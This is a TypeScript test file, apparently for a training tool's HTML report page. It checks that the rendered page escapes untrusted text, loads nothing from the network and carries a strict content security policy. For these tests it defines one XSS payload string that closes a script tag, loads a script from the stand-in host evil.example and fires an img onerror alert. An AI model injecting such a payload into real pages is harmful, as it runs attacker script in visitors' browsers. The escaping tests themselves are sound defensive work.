import { describe, expect, it } from "vitest";
import { type PageContent, readSamples, renderPage } from "../../ts/cli/report/page.js";
import { bitsPer } from "../../ts/cli/text-job.js";
import { workFolder } from "./program.js";

const hostile = `</script><script src="http://evil.example/x.js"></script><img src=x onerror=alert(1)> & "quoted" 'it'`;
const content: PageContent = {
  name: `A & B <${hostile}>`,
  measure: bitsPer("character"),
  kernel: "simd",
  points: Array.from({ length: 50 }, (_, i) => ({
    update: i + 1,
    steps: (i + 1) * 256,
    loss: 4 - i / 50,
    norm: 1 + i / 100,
  })),
  heldOut: [{ update: 25, steps: 6400, loss: 3.6 }],
  samples: [
    { update: 10, steps: 2560, loss: 3.9, text: hostile },
    { update: 50, steps: 12800, loss: 3, text: "“Aye,” said\u0007 he.\n" },
  ],
  updates: 50,
  steps: 12800,
  seconds: 2,
  parameters: 1234,
  baseline: { value: 4.2, name: "symbol frequencies" },
  tiles: [["held out, bits per character", "3.100", hostile]],
  best: true,
  sections: [
    {
      kind: "confusion",
      title: hostile,
      about: hostile,
      labels: ["a", hostile],
      counts: [
        [3, 1],
        [0, 4],
      ],
    },
    {
      kind: "series",
      id: "series-1",
      title: hostile,
      about: hostile,
      x: "step",
      curves: [
        {
          name: hostile,
          look: "truth",
          points: [
            [1, 2.5],
            [2, Number.NaN],
          ],
        },
      ],
    },
  ],
  settings: [["hidden-size", "16"]],
  machine: { cpu: "a processor", engine: "an engine", system: "a system" },
  version: "1.2.3",
  date: "2026-01-02T03:04:05.000Z",
};

describe("the page of curves", () => {
  const page = renderPage(content);

  it("asks no network for anything", () => {
    const withoutText = page.replace(/<script[\s\S]*?<\/script>/g, (script) =>
      script.slice(0, script.indexOf(">") + 1),
    );
    expect(withoutText).not.toMatch(/<(img|link|iframe|object|embed|audio|video|base|form)\b/i);
    expect(withoutText.replace(/aria-label="[^"]*"/g, "")).not.toMatch(
      /<[^>]*\b(src|href|srcset|action)\s*=/i,
    );
    expect(page.replace(/&[a-z]+;|&#\d+;/g, "")).not.toMatch(/@import|url\(\s*["']?(?!data:)/i);
    expect(page).toContain(`http-equiv="Content-Security-Policy" content="default-src 'none';`);
    expect(page).not.toMatch(/<script[^>]+src/);
  });

  it("escapes whatever the net writes and the file is called", () => {
    // One for the data, uPlot and the page's own script.
    expect(page.match(/<script/g)).toHaveLength(3);
    expect(page.match(/<\/script/g)).toHaveLength(3);
    expect(page).toContain("&lt;/script&gt;&lt;script src=&quot;http://evil.example/x.js&quot;&gt;");
    expect(page).toContain("“Aye,” said· he.");
  });

  it("is whole: style, library, script and data are in it", () => {
    for (const part of [
      "prefers-color-scheme: dark",
      "var uPlot=",
      "new uPlot(",
      ".u-legend",
      "width=device-width",
    ]) {
      expect(page).toContain(part);
    }
    const json = /<script type="application\/json" id="run">(.*?)<\/script>/s.exec(page)?.[1] ?? "";
    const run = JSON.parse(json);
    expect(run.training).toHaveLength(50);
    expect(run.heldOut).toEqual([[6400, 3.6]]);
    expect(run.norms[0]).toEqual([256, 1]);
    expect(run.series).toEqual([
      {
        id: "series-1",
        x: "step",
        curves: [
          {
            name: hostile,
            look: "truth",
            points: [
              [1, 2.5],
              [2, null],
            ],
          },
        ],
      },
    ]);
    expect(page).toContain('<td class="wrong" style="--share:0.25">1</td>');
  });

  it("gives its samples back, and none from anything else", () => {
    const folder = workFolder();
    expect(readSamples(folder.file("report.html", page))).toEqual(content.samples);
    expect(readSamples(folder.file("other.html", "<p>Hello</p>"))).toEqual([]);
    expect(
      readSamples(
        folder.file("bad.html", '<script type="application/json" id="run">{"samples":[{"text":1}]}</script>'),
      ),
    ).toEqual([]);
    expect(readSamples(`${folder.path}/none.html`)).toEqual([]);
    folder.remove();
  });

  it("says which net was kept, and that what is held out has chosen it", () => {
    const heldOut = [
      { update: 25, steps: 6400, loss: 6.605e-5 },
      { update: 50, steps: 12800, loss: 0.004 },
    ];
    const kept = renderPage({ ...content, heldOut });
    expect(kept).toContain(
      "The model is the net that did best on what is held out: 0.000066 after 6.40k characters. So what is held out is a " +
        "validation set",
    );
    expect(renderPage({ ...content, heldOut, best: false })).not.toContain("validation set");
  });

  it("can be drawn while training goes on, before anything was measured", () => {
    const early = renderPage({
      ...content,
      points: [],
      heldOut: [],
      samples: [],
      tiles: undefined,
      sections: [],
      seconds: 0,
      steps: 0,
    });
    expect(early).toContain("latest measurement");
    expect(early.replace(/<script[\s\S]*?<\/script>/g, "")).not.toMatch(/NaN|undefined|Infinity/);
  });
});
